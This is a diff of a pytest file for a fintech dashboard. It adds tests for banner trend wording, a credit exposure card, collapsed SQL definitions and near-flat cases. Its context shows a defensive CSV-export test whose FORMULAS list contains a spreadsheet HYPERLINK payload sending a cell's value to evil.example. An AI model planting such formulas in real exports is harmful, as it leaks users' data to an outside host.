@@ -2,12 +2,16 @@
 
 from __future__ import annotations
 
+import csv
+import re
+
 import pytest
 
 from dashboard import data
 from dashboard.state import active_summary, effective, query_from_selection, selection_from_query
 from semantic.formats import gini_band
 from tests import reference
+from tests.conftest import build_warehouse, warehouse_url
 
 OPTIONS = {"risk_tolerance": ["Low", "Medium", "High"], "region": ["Central", "East", "North", "South", "West"],
            "account_type": ["checking", "savings", "credit", "investment"]}
@@ -41,14 +45,24 @@ def test_gini_bands(gini, band):
     assert gini_band(gini) == band
 
 
+def expected_trend(accounts, where: dict | None = None) -> str:
+    """The spec's words for the reference's average net contribution: about flat within 0.1% of the average
+    balance, else growing or shrinking."""
+    row = reference.metrics(accounts, ["avg_net_contribution", "avg_balance"], where=where).iloc[0]
+    if abs(row.avg_net_contribution) <= 0.001 * abs(row.avg_balance):
+        return "about flat"
+    return "growing" if row.avg_net_contribution > 0 else "shrinking"
+
+
 def test_banner_in_words(dashboard_env):
     from dashboard.components.banner import banner_text
 
     accounts = dashboard_env
     text = banner_text(())
-    flow = (accounts.deposits - accounts.withdrawals).mean()
     assert f"**{len(accounts):,} accounts**" in text
-    assert ("**growing**" if flow >= 0 else "**shrinking**") in text
+    assert f"**{expected_trend(accounts)}**" in text
+    west = banner_text((("region", ("West",)),))
+    assert f"**{expected_trend(accounts, {'region': ['West']})}**" in west
     assert gini_band(reference.gini_by_trapezoids(accounts.balance)).lower() in text
     assert "filtered subset" not in text
     assert "filtered subset" in banner_text((("region", ("West",)),))
@@ -64,6 +78,112 @@ def test_overview_cards_and_empty_state(dashboard_env):
     assert f"${east.balance.sum():,.0f}" in html and 'data-kpi="balance_weighted_rate"' in html
     empty = overview((("region", ("North",)), ("account_type", ("credit",)))).object
     assert "No accounts match these filters" in empty
+
+
+CREDIT = {"approved_credit_exposure": None, "pending_credit_exposure": "Pending applications",
+          "rejected_credit_exposure": "Rejected applications", "credit_exposure": "All applications"}
+
+
+def money(value) -> str:
+    """$1,234,567 without cents (the dashboard spec), written here and not taken from the code under test."""
+    dollars = round(value)
+    return f"-${-dollars:,}" if dollars < 0 else f"${dollars:,}"
+
+
+def credit_card(html: str) -> dict[str, str]:
+    """The credit card's value and parts as shown: {metric: text}."""
+    card = re.search(r'<div class="kpi-card" data-kpi="approved_credit_exposure">.*?</details></div>', html,
+                     re.S).group()
+    shown = {"approved_credit_exposure": re.search(r'class="kpi-value">([^<]*)<', card).group(1)}
+    for part, label, text in re.findall(r'data-part="(\w+)"><span class="kpi-part-label">([^<]*)</span>: '
+                                        r'<span class="kpi-part-value">([^<]*)<', card):
+        assert CREDIT[part] in label, label
+        shown[part] = text
+    return shown
+
+
+@pytest.mark.parametrize("where", [{}, {"region": ["East"]}, {"risk_tolerance": ["Low", "High"],
+                                                               "account_type": ["savings"]}], ids=str)
+def test_the_credit_card_shows_the_approved_exposure_with_its_parts_and_the_total(dashboard_env, where):
+    from dashboard.components.overview import overview
+
+    accounts = dashboard_env
+    expected = reference.metrics(accounts, list(CREDIT), where=where).iloc[0]
+    shown = credit_card(overview(data.where_of(where)).object)
+    assert shown == {name: money(expected[name]) for name in CREDIT}
+    assert expected.approved_credit_exposure < expected.credit_exposure  # the parts are not the total
+
+
+def test_every_card_has_its_definition_and_its_sql_collapsed(dashboard_env):
+    import html as markup
+
+    from dashboard.components.concentration import concentration_cards
+    from dashboard.components.overview import overview
+
+    page = overview(()).object + concentration_cards(()).object
+    cards = re.findall(r'<div class="kpi-card" data-kpi="(\w+)">(.*?)</details></div>', page, re.S)
+    assert [key for key, _ in cards] == ["accounts", "total_balance", "approved_credit_exposure",
+                                         "balance_weighted_rate", "net_contributions", "avg_net_contribution",
+                                         "top_10_share", "top_10_balance", "gini"]
+    for key, card in cards:
+        assert re.search(r'class="kpi-help">[^<]{10,}<', card), key  # a one-line definition
+        details = re.search(r"<details[^>]*><summary>SQL</summary><pre[^>]*>(.*?)</pre>$", card, re.S)
+        assert details and " open" not in card.split("<details")[1].split(">")[0], key  # collapsed
+        sql = markup.unescape(details.group(1))
+        assert sql.lstrip().startswith(("SELECT", "WITH")) and "SELECT" in sql and f'"{key}"' in sql, key
+        assert '"' not in details.group(1) and "<" not in details.group(1), key  # html-escaped
+    approved = dict(cards)["approved_credit_exposure"]
+    assert "agg_accounts_by_segment" in approved  # a sum: answered from the rollup
+
+
+# Average net contributions just inside and just outside 0.1% of the average balance, on either side of 0.
+NEAR_FLAT = {"inside": (0.999, "about flat"), "outside": (1.001, "growing"), "outside_negative": (-1.001, "shrinking"),
+             "inside_negative": (-0.999, "about flat")}
+
+
+@pytest.fixture(scope="module")
+def near_flat(generate_csv, tmp_path_factory):
+    """`near_flat(case)`: a warehouse URL whose average net contribution is the case's multiple of 0.1% of its
+    average balance (one account's deposits or withdrawals moved), and its reference accounts."""
+    source = generate_csv(200, 5)
+    base = reference.int_customer_account_metrics(reference.staging(source))
+    made = {}
+
+    def make(case: str):
+        if case not in made:
+            folder = tmp_path_factory.mktemp(f"near_flat_{case}")
+            wanted = NEAR_FLAT[case][0] * 0.001 * base.balance.mean() * len(base)
+            move = wanted - (base.deposits - base.withdrawals).sum()  # added to one account's net flow
+            with source.open(newline="") as f:
+                rows = list(csv.reader(f))
+            column = rows[0].index("Account Activity.deposits" if move > 0 else "Account Activity.withdrawals")
+            rows[1][column] = f"{float(rows[1][column]) + abs(move):.2f}"
+            edited = folder / "fintech_data.csv"
+            with edited.open("w", newline="") as f:
+                csv.writer(f).writerows(rows)
+            target = build_warehouse(edited, folder / "warehouse" / "fintech.duckdb")
+            made[case] = warehouse_url(target), reference.int_customer_account_metrics(reference.staging(edited))
+        return made[case]
+
+    return make
+
+
+@pytest.mark.parametrize("case", list(NEAR_FLAT))
+def test_the_banner_is_about_flat_within_a_tenth_of_a_percent(near_flat, case, monkeypatch, tmp_path):
+    from dashboard.components.banner import banner_text
+
+    url, accounts = near_flat(case)
+    row = reference.metrics(accounts, ["avg_net_contribution", "avg_balance"]).iloc[0]
+    ratio = row.avg_net_contribution / (0.001 * row.avg_balance)
+    assert ratio == pytest.approx(NEAR_FLAT[case][0], abs=2e-4)  # the edit made the case it names
+    assert expected_trend(accounts) == NEAR_FLAT[case][1]
+    monkeypatch.setenv("FINTECH_BACKEND", url)
+    monkeypatch.setenv("FINTECH_DATA_DIR", str(tmp_path))
+    data.reset()
+    text = banner_text(())
+    assert f"On average accounts are **{NEAR_FLAT[case][1]}**: net contributions are " \
+           f"**{money(row.avg_net_contribution)}** per account" in text
+    data.reset()
 
 
 def test_risk_breakdown_keeps_the_portfolio_and_highlights_the_chosen_tiers(dashboard_env):
@@ -154,11 +274,9 @@ FORMULAS = ['=HYPERLINK("http://evil.example/?leak="&A1,"Click for details")', "
 
 def test_csv_exports_open_safely_in_a_spreadsheet(generate_csv, tmp_path, monkeypatch):
     """Text that a spreadsheet would run as a formula arrives as text; numbers stay numbers."""
-    import csv
     import io
 
     from dashboard.components.common import csv_download
-    from tests.conftest import build_warehouse, warehouse_url
 
     source = generate_csv(1_003, 11)
     with source.open(newline="") as f:
